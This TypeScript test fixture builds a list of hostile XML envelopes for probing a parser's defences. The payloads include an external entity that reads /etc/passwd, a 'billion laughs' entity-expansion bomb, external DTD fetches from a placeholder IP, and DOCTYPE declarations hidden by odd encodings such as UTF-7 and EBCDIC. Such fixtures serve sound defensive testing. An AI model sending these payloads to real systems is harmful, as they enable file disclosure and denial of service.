/** Documents around a right envelope that an XML processor could be made to do something by (S-31, S-32). */

const ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>';
const laughs = (levels: number): string =>
  `<!DOCTYPE x [<!ENTITY l0 "ha">${Array.from({ length: levels }, (_v, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')}]>`;

const bigEndian = (text: string): Buffer => Buffer.from(text, 'utf16le').swap16();
function utf32(text: string): Buffer {
  const bytes = Buffer.alloc(4 * text.length);
  for (let at = 0; at < text.length; at += 1) bytes.writeUInt32BE(text.charCodeAt(at), 4 * at);
  return bytes;
}
/** What `<?xml version="1.0" encoding="` is in the code page of mainframes. */
const EBCDIC_DECLARATION = Buffer.from('4c6fa79493408585a2899695f1f0', 'hex');

const inBody = (xml: string, text: string): string => xml.replace('<e:Body>', `<e:Body>${text}`);

/** `xml` is an envelope in which `e` is the prefix of its namespace. */
export function hostileDocuments(xml: string): readonly (string | Buffer)[] {
  const declared = (encoding: string) => `<?xml version="1.0" encoding="${encoding}"?>`;
  return [
    `${ENTITY}${inBody(xml, '&a;')}`,
    `<?xml version="1.0"?>${ENTITY}${xml}`,
    `${laughs(9)}${inBody(xml, '&l9;')}`,
    `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd">%p;]>${xml}`,
    `<!DOCTYPE x PUBLIC "-//X//X" "http://192.0.2.1/x.dtd">${xml}`,
    `<!doctype x>${xml}`,
    xml.replace('<e:Body>', '<!DOCTYPE x><e:Body>'),
    Buffer.from(`\ufeff${ENTITY}${xml}`, 'utf16le'),
    Buffer.from(`${declared('UTF-16')}${ENTITY}${xml}`, 'utf16le'),
    bigEndian(`\ufeff${ENTITY}${xml}`),
    bigEndian(`${declared('UTF-16BE')}${xml}`),
    utf32(`${ENTITY}${xml}`),
    Buffer.concat([EBCDIC_DECLARATION, Buffer.from(xml)]),
    `${declared('UTF-7')}+ADwAIQ-DOCTYPE x+AD4-${xml}`,
    `${declared('ISO-8859-1')}${xml}`,
    `${declared('utf-16')}${xml}`,
    Buffer.from(inBody(xml, 'é'), 'latin1'),
    Buffer.concat([Buffer.from(xml.slice(0, 30)), Buffer.from([0xc0, 0xbc, 0xed, 0xa0, 0x80]), Buffer.from(xml.slice(30))]),
    `<?xml version="1.1"?>${xml}`,
    inBody(xml, '&#0;'),
    inBody(xml, '&#x110000;'),
    inBody(xml, '&lt'),
    inBody(xml, '<![CDATA[<!DOCTYPE x>]]>'),
    inBody(xml, '<![CDATA[never closed'),
    inBody(xml, '<?php echo 1 ?>'),
    `${xml}${xml}`,
    `${xml}garbage`,
    ` ${declared('UTF-8')}${xml}`,
    '',
    '\ufeff',
    '<',
    `<a ${'x="1" '.repeat(2)}/>`,
  ];
}
